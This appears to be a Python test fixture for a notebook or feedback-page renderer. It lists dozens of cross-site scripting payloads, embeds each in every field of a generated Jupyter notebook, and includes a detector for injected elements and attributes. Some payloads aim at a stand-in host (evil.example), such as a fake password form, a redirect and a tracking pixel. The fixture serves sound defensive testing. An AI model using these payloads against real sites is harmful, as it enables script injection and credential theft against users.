"""Texts that would run something in a browser if any page took them for markup, and a notebook full of them."""

from __future__ import annotations

import json
from typing import Any

from bs4 import BeautifulSoup, Tag

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title></style></textarea></noscript></template><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)' style='position:fixed;inset:0",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<form action=https://evil.example><input name=password autofocus><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<img src=https://evil.example/pixel.png>",
    "<div hx-get=/logout hx-trigger=load hx-on:click='alert(1)' hx-on::load='alert(1)'>x</div>",
    "<div data-hx-post=/logout data-hx-trigger=load>x</div>",
    "<div sse-connect=https://evil.example sse-swap=message>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "{{7*7}}{% raw %}{{config}}{% endraw %}${7*7}#{7*7}",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$",
    "`<img src=x onerror=alert(1)>`",
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
    "\u202e<script>alert(1)</script>\u2066",
)  # fmt: skip

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script>{}</svg>"
_ELEMENTS = {"iframe", "object", "embed", "base", "frame", "applet", "portal", "foreignobject", "animate", "set", "style"}
_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster", "background", "cite", "ping"}


def notebook() -> dict[str, Any]:
    """Every payload in every place of a notebook that a student can fill."""
    cells: list[dict[str, Any]] = []
    for number, payload in enumerate(PAYLOADS):
        cells.append(
            _cell("markdown", f"# {payload}\n\n{payload}\n\n- {payload}\n\n| {payload} |\n|--|\n| {payload} |", payload, number)
        )
        code = _cell("code", f"# {payload}\nprint({payload!r})", payload, number)
        cells.append(code | {"execution_count": number, "outputs": _outputs(payload)})
    about = {"title": PAYLOADS[0], "authors": [{"name": payload} for payload in PAYLOADS]}
    kernel = {"kernelspec": {"name": "python3", "display_name": PAYLOADS[2], "language": PAYLOADS[3]}}
    return {"cells": cells, "metadata": about | kernel, "nbformat": 4, "nbformat_minor": 5}


def notebook_bytes() -> bytes:
    return json.dumps(notebook()).encode()


def _cell(kind: str, source: str, payload: str, number: int) -> dict[str, Any]:
    metadata = {"tags": [payload], "name": payload, "slideshow": {"slide_type": payload}}
    return {"id": f"{kind}-{number}", "cell_type": kind, "metadata": metadata, "source": source}


def _outputs(payload: str) -> list[dict[str, Any]]:
    data = {
        "text/plain": payload,
        "text/html": payload,
        "text/markdown": payload,
        "text/latex": payload,
        "image/svg+xml": _SVG.format(payload),
        "application/javascript": "alert(1)",
        "application/json": {"x": payload},
        "image/png": payload,
    }
    shown = [
        {"output_type": "display_data", "metadata": {"x": payload}, "data": {kind: data[kind], "text/plain": payload}}
        for kind in data
    ]
    stream = {"output_type": "stream", "name": "stdout", "text": payload}
    error = {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]}
    return [*shown, stream, error]


def problems(html: str) -> list[str]:
    """What on a page could run, load or send something that its template did not put there."""
    found = [f"comment {end}" for end in ("<!-->", "<!--->") if end in html]  # browsers end such a comment at once
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        assert isinstance(element, Tag)
        if element.name in _ELEMENTS and not _is_own(element):
            found.append(f"<{element.name}>")
        found += [f"{element.name}: {problem}" for problem in _attributes(element)]
    return found


def _is_own(element: Tag) -> bool:
    """The one style sheet in the head of a feedback page, which its policy allows by its hash."""
    return element.name == "style" and element.parent is not None and element.parent.name == "head"


def _attributes(element: Tag) -> list[str]:
    found = []
    for name, value in element.attrs.items():
        text = " ".join(value) if isinstance(value, list) else str(value)
        plain = "".join(char for char in text if char.isprintable() and not char.isspace()).lower()
        acts = name.startswith(("on", "hx-on", "data-hx", "srcdoc"))
        if acts or (name.startswith(("hx-", "sse-")) and ("evil" in plain or plain == "/logout")):
            found.append(f"{name}={text}")
        if name in _ADDRESSES and plain.startswith(("javascript:", "vbscript:", "data:text", "http:", "https:", "//")):
            found.append(f"{name}={text}")
    if element.name == "script" and not str(element.get("src", "")).startswith("/static/"):
        found.append("inline")
    if element.name == "meta" and str(element.get("http-equiv", "")).lower() == "refresh":
        found.append("refresh")
    return found
